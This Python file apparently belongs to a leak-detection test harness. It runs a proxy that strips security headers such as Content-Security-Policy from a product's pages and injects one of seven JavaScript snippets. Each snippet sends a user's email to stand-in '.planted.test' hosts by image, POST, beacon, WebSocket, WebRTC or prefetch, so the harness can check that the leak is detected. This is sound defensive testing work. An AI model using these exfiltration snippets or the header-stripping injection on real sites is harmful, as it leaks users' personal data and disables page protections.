"""Plants: seven ways out of a page, each put into our pages on purpose, to see that it is noticed.

A proxy in front of the product takes away the headers that would close them and plants the one that
an address names: `/about?plant=image`.
"""

import argparse
import http.client
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import override

from leakcheck.net import HERE, STRANGER

PORT = 8001
WALLS = {"content-security-policy", "connection-allowlist", "x-dns-prefetch-control"}
# What a page would have to do; `EMAIL` stands for what is carried out with it.
PLANTS = {
    "image": "new Image().src = 'http://image.planted.test/x.gif?mail=EMAIL';",
    "post": (
        "crypto.subtle.digest('SHA-256', new TextEncoder().encode('EMAIL')).then((hash) =>"
        " fetch('http://post.planted.test/', {method: 'POST', mode: 'no-cors', body: hash}));"
    ),
    "beacon": "navigator.sendBeacon('http://beacon.planted.test/', btoa('EMAIL'));",
    "websocket": "new WebSocket('ws://websocket.planted.test/' + encodeURIComponent('EMAIL'));",
    "webrtc": (
        f"const line = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{STRANGER}:3478'}}]}});"
        " line.createDataChannel('x'); line.createOffer().then((o) => line.setLocalDescription(o));"
    ),
    "dns-prefetch": (
        "const hint = document.createElement('link'); hint.rel = 'dns-prefetch';"
        " hint.href = '//prefetch.planted.test'; document.head.append(hint);"
    ),
    "preconnect": (
        "const line = document.createElement('link'); line.rel = 'preconnect';"
        " line.href = 'http://preconnect.planted.test'; document.head.append(line);"
    ),
}
# Where each of them can be seen: a name that was asked for, or a place that packets went to.
TRACES = {
    "image": "image.planted.test",
    "post": "post.planted.test",
    "beacon": "beacon.planted.test",
    "websocket": "websocket.planted.test",
    "webrtc": f"{STRANGER}:3478",
    "dns-prefetch": "prefetch.planted.test",
    "preconnect": "preconnect.planted.test",
}


class Planting(BaseHTTPRequestHandler):
    """Passes requests on to the product, and plants a script into its pages."""

    email = ""
    port = 0

    @override
    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        """Pass one request on."""
        path, _, plant = self.path.partition("?plant=")
        if path == "/planted.js":
            script = PLANTS[plant].replace("EMAIL", self.email).encode()
            self._answer(200, [("Content-Type", "text/javascript")], script)
            return
        line = http.client.HTTPConnection(HERE, self.port, timeout=30)
        line.request("GET", path, headers={"Host": self.headers["Host"]})
        answer = line.getresponse()
        body = answer.read()
        headers = [
            (name, value)
            for name, value in answer.getheaders()
            if name.lower() not in WALLS | {"content-length", "transfer-encoding", "connection"}
        ]
        if plant in PLANTS:
            tag = f'<script src="/planted.js?plant={plant}"></script>'
            body = body.replace(b"</head>", f"{tag}</head>".encode(), 1)
        self._answer(answer.status, headers, body)
        line.close()

    def _answer(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        self.send_response(status)
        for name, value in [*headers, ("Content-Length", str(len(body)))]:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)


def main() -> None:
    """Stand before the product with the plants until told to end."""
    parser = argparse.ArgumentParser()
    parser.add_argument("--email", required=True)
    parser.add_argument("--product", type=int, required=True)
    told = parser.parse_args()
    Planting.email, Planting.port = told.email, told.product
    door = ThreadingHTTPServer((HERE, PORT), Planting)
    threading.Thread(target=door.serve_forever, daemon=True).start()
    print("listening", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
